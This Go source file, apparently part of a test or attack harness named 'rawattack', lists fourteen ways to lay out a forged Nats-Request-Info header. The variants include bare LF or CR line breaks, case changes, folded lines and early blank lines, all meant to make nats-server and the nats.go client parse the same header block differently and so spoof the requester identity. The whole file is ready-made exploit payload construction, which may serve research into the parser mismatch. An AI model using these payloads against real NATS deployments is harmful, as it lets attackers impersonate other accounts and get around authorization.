package rawattack

// nri is the header nats-server writes on a request that crosses a
// service import, and the one every trick below forges.
const nri = "Nats-Request-Info"

// trick is a header block that carries a forged identity f.
type trick struct {
	name  string
	block func(f string) string
}

// tricks are the ways a client can lay out a forged Nats-Request-Info so
// that nats-server (which knows only CRLF) and nats.go (which also splits
// on a bare LF, stops at the first empty line, and drops a header it
// cannot read) see different headers.
var tricks = []trick{
	{"plain forged header (the server replaces it)", func(f string) string {
		return "NATS/1.0\r\n" + nri + ": " + f + "\r\n\r\n"
	}},
	{"bare LF before the forged line", func(f string) string {
		return "NATS/1.0\r\nX-A: b\n" + nri + ": " + f + "\r\n\r\n"
	}},
	{"bare LF status line", func(f string) string {
		return "NATS/1.0\n" + nri + ": " + f + "\r\n\r\n"
	}},
	{"bare CR before the forged line", func(f string) string {
		return "NATS/1.0\r\nX-A: b\r" + nri + ": " + f + "\r\n\r\n"
	}},
	{"duplicate values", func(f string) string {
		return "NATS/1.0\r\n" + nri + ": " + f + "\r\n" + nri + ": " + f + "\r\n\r\n"
	}},
	{"lower-case name", func(f string) string {
		return "NATS/1.0\r\nnats-request-info: " + f + "\r\n\r\n"
	}},
	{"upper-case name", func(f string) string {
		return "NATS/1.0\r\nNATS-REQUEST-INFO: " + f + "\r\n\r\n"
	}},
	{"space before the colon", func(f string) string {
		return "NATS/1.0\r\n" + nri + " : " + f + "\r\n\r\n"
	}},
	{"tab after the colon", func(f string) string {
		return "NATS/1.0\r\n" + nri + ":\t" + f + "\r\n\r\n"
	}},
	{"folded continuation line", func(f string) string {
		return "NATS/1.0\r\nX-A: b\r\n " + nri + ": " + f + "\r\n\r\n"
	}},
	{"block that ends early at a bare-LF blank line", func(f string) string {
		return "NATS/1.0\r\nX-A: b\n" + nri + ": " + f + "\n\nX-B: c\r\n\r\n"
	}},
	{"block that ends early at a CRLF blank line", func(f string) string {
		return "NATS/1.0\r\nX-A: b\r\n\r\nX-B: c\r\n\r\n"
	}},
	{"block without its blank line (the server's header runs on)", func(string) string {
		return "NATS/1.0\r\nX-A: b\r\n"
	}},
	{"a line nats.go cannot read (it drops the whole header)", func(string) string {
		return "NATS/1.0\r\nbogus\r\n\r\n"
	}},
}
